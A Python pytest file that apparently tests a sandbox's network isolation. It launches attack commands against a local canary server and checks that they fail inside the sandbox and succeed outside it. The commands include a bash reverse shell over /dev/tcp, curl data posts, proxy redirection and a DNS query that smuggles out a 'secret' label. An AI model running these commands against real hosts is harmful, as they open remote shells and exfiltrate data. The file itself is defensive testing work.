"""Commands try to reach the network."""

from __future__ import annotations

import asyncio
import shlex
import socket
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path

import pytest

from tests.security.attacks import bare, both, boxed, python

pytestmark = pytest.mark.system


class Canary:
    """A server of the host that no task may reach.

    Attributes:
        port: where it listens.
        visits: how many connections came. The server closes each at once, so an attack that waits for that is counted.
    """

    def __init__(self) -> None:
        self.port = 0
        self.visits = 0

    def visit(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.visits += 1
        writer.close()


@asynccontextmanager
async def listening(host: str = "127.0.0.1") -> AsyncIterator[Canary]:
    canary = Canary()
    async with await asyncio.start_server(canary.visit, host, 0) as server:
        canary.port = server.sockets[0].getsockname()[1]
        yield canary


async def check_shut_out(attack: str, workspace: Path, host: str = "127.0.0.1") -> None:
    """Check that the attack reaches the server without the sandbox, and not in it."""
    async with listening(host) as canary:
        command = attack.format(host=host, port=canary.port)
        await boxed(command, workspace)
        assert canary.visits == 0
        await bare(command, workspace)
        assert canary.visits > 0


SPEAK = "exec 3<>/dev/tcp/{host}/{port} && cat <&3"
PROGRAM = "import socket; socket.create_connection(('{host}', {port})).recv(1)"

ATTACKS = {
    "the workers own port": SPEAK,
    "the workers own port by curl": "curl -s http://{host}:{port}/task -d '{{}}'",
    "a port by a proxy of its own choice": "http_proxy=http://{host}:{port} curl -s http://example.com/",
    "a port and hands out a shell": "bash </dev/tcp/{host}/{port} >&0 2>&1",
    "a port by a program of its own": f"/usr/bin/python3 -c {shlex.quote(PROGRAM)}",
}


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=list(ATTACKS))
async def test_a_command_does_not_reach(attack: str, workspace: Path) -> None:
    await check_shut_out(attack, workspace)


async def test_a_command_does_not_reach_a_port_of_the_lan_such_as_the_masters(workspace: Path) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        try:
            probe.connect(("192.0.2.1", 9))  # sends nothing, but the kernel chooses a source address
        except OSError:
            pytest.skip("this machine has no network")
        own = str(probe.getsockname()[0])
    await check_shut_out(SPEAK, workspace, own)


async def test_a_command_does_not_reach_a_port_by_ipv6(workspace: Path) -> None:
    if not Path("/proc/net/if_inet6").exists():
        pytest.skip("this machine has no IPv6")
    await check_shut_out(SPEAK, workspace, "::1")


async def test_a_command_sends_no_secret_in_a_dns_query(workspace: Path) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as resolver:
        resolver.bind(("127.0.0.1", 0))
        resolver.setblocking(False)
        question = r"b'\0\1\1\0\0\1\0\0\0\0\0\0\6secret\7example\0\0\1\0\1'"
        place = resolver.getsockname()
        attack = python(f"import socket; socket.socket(2, socket.SOCK_DGRAM).sendto({question}, {place})")
        await boxed(attack, workspace)
        with pytest.raises(BlockingIOError):
            resolver.recv(999)
        await bare(attack, workspace)
        assert b"secret" in resolver.recv(999)


async def test_a_command_finds_no_resolver_and_no_interface(workspace: Path) -> None:
    found = await both("cat /etc/resolv.conf && echo resolver; tail -n +3 /proc/net/dev | cut -d: -f1", workspace)
    assert found.boxed.split()[-1] == "lo"
    assert "resolver" not in found.boxed
    assert "resolver" in found.bare or not Path("/etc/resolv.conf").exists()


async def test_a_command_takes_no_port_of_the_host(workspace: Path) -> None:
    async with listening() as canary:
        # In the sandbox, the port belongs to a loopback of its own, which no client reaches.
        attack = python(f"import socket; socket.socket().bind(('127.0.0.1', {canary.port})); print('bound')")
        found = await both(attack, workspace)
    assert "bound" in found.boxed
    assert "Address already in use" in found.bare
